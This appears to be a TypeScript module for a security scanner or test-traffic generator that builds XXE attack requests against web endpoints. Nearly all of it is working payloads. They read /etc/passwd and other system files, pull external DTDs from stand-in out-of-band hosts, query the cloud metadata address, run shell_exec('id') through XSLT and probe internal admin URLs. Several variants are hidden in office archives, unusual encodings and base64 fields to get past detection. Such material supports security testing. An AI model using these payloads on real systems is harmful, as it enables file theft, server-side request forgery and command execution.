import type { WholeWriter } from '../../make/whole.ts';
import { named } from './named.ts';
import { type, xml } from './wholes-xml.ts';
import { zipOf } from './zip.ts';

/** Documents in archives, fields and odd encodings, and those that include, transform or point elsewhere. */
export function writeDisguisedXml(write: WholeWriter): void {
  writeOffice(write);
  writeDisguises(write);
}

/** Documents in archives. */
function writeOffice(write: WholeWriter): void {
  const technique = named(write, 'xxe');
  const bad = `<?xml version="1.0" standalone="yes"?>${type('x', 'file:///etc/passwd')}<x>&ent;</x>`;
  const far = '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY % d SYSTEM "http://o7.oast.example/o.dtd">%d;]><x/>';
  technique('office documents');
  for (const [path, kind, inside, text] of [
    ['/hr/cv', 'application/vnd.openxmlformats-officedocument.wordprocessingml.document', 'word/document.xml', bad],
    ['/sheets/import', 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet', 'xl/workbook.xml', far],
    [
      '/sheets/import',
      'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet',
      'xl/sharedStrings.xml',
      bad,
    ],
    [
      '/slides',
      'application/vnd.openxmlformats-officedocument.presentationml.presentation',
      'ppt/presentation.xml',
      far,
    ],
    ['/docs', 'application/vnd.oasis.opendocument.text', 'content.xml', bad],
    ['/books', 'application/epub+zip', 'META-INF/container.xml', bad],
  ] as const)
    write.send(path, kind, zipOf({ '[Content_Types].xml': '<Types/>', [inside]: text }), { method: 'PUT' });
}

/** The same, past those who look for it. */
function writeDisguises(write: WholeWriter): void {
  const technique = named(write, 'xxe');
  const plain = `<?xml version="1.0"?>${type('a', 'file:///etc/passwd')}<a>&ent;</a>`;
  technique('other encodings');
  write.send('/in', xml, Buffer.from(`\ufeff${plain.replace('?>', ' encoding="UTF-16"?>')}`, 'utf16le'));
  write.send('/in', `${xml}; charset=utf-16be`, Buffer.from(plain, 'utf16le').swap16());
  write.send(
    '/in',
    xml,
    `<?xml version="1.0" encoding="UTF-7"?>+ADwAIQ-DOCTYPE a +AFsAPAAh-ENTITY e SYSTEM +ACI-file:///etc/passwd+ACIAPgBdAD4-+ADw-a+AD4AJg-e+ADsAPA-/a+AD4-`,
  );
  write.send(
    '/in',
    `${xml}; charset=utf-32le`,
    Buffer.from(Array.from(plain, char => [char.charCodeAt(0), 0, 0, 0]).flat()),
  );
  technique('inclusion by XInclude');
  for (const include of [
    'parse="text" href="file:///etc/passwd"',
    'href="http://169.254.169.254/latest/user-data" parse="text"',
    'href="php://filter/read=convert.base64-encode/resource=a.php"',
    'parse="text" href="/proc/self/cmdline" encoding="ascii"',
  ])
    write.send(
      '/product/query',
      'application/x-www-form-urlencoded',
      `productId=${encodeURIComponent(`<p xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include ${include}/></p>`)}&storeId=4`,
    );
  technique('XML where JSON was asked for');
  for (const path of ['/api/v1/session', '/rest/cart', '/api/devices/7', '/v2/search'])
    write.send(path, 'text/xml', `${type('root', 'file:///etc/services', 'n')}<root><email>&n;</email></root>`, {
      headers: { accept: 'application/json' },
    });
  technique('XML in a field');
  const q = encodeURIComponent;
  write.send('/pay/callback', 'application/x-www-form-urlencoded', `xmlmsg=${q(plain)}`);
  write.get(`/convert?doc=${q(`${type('d', 'http://f2.oast.example/')}<d>&ent;</d>`)}`);
  write.json('/jobs', { name: 'j', definition: plain });
  write.json('/hooks/in', { payload: Buffer.from(plain).toString('base64') });
  technique('stylesheets');
  for (const value of [
    "document('file:///etc/passwd')",
    "unparsed-text('/etc/hosts')",
    "document('http://x3.oast.example/')",
    "php:function('shell_exec','id')",
  ])
    write.send(
      '/transform',
      'text/xsl',
      `<xsl:stylesheet version="2.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform" xmlns:php="http://php.net/xsl"><xsl:template match="/"><xsl:copy-of select="${value}"/></xsl:template></xsl:stylesheet>`,
    );
  technique('schemas and linked sheets');
  write.send(
    '/validate',
    xml,
    '<o xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:noNamespaceSchemaLocation="http://169.254.169.254/latest/meta-data/"><i/></o>',
  );
  write.send('/validate', xml, '<?xml-stylesheet type="text/xsl" href="http://203.0.113.70/r.xsl"?><o/>');
  write.send(
    '/validate',
    xml,
    '<xs:schema xmlns:xs="http://www.w3.org/2001/XMLSchema"><xs:import namespace="a" schemaLocation="file:///etc/passwd"/></xs:schema>',
  );
  write.send(
    '/wsdl',
    xml,
    '<definitions xmlns="http://schemas.xmlsoap.org/wsdl/"><import namespace="x" location="http://127.0.0.1:8080/manager/text/list"/></definitions>',
  );
  technique('split by more entities');
  write.send('/in', xml, '<!DOCTYPE a [<!ENTITY % s "<!ENTITY z SYSTEM \'file:///etc/passwd\'>">%s;]><a>&z;</a>');
  write.send(
    '/in',
    xml,
    '<!DOCTYPE a [<!ENTITY % s "&#60;!ENTITY z SYSTEM \'fi&#108;e:///etc/hosts\'>">%s;]><a>&z;</a>',
  );
  write.send(
    '/in',
    xml,
    '<!DOCTYPE a [<!ENTITY % b "<![CDATA["><!ENTITY % f SYSTEM "file:///etc/fstab"><!ENTITY % e "]]>"><!ENTITY % d SYSTEM "http://203.0.113.70/j.dtd">%d;]><a>&all;</a>',
  );
  write.send(
    '/in',
    xml,
    '<!DOCTYPE\n\ta\n[<!ENTITY\n\tz\n\tPUBLIC\t"any"\n"file:///etc/crontab"\t>]>\n<a b="1">&z;</a>',
  );
}
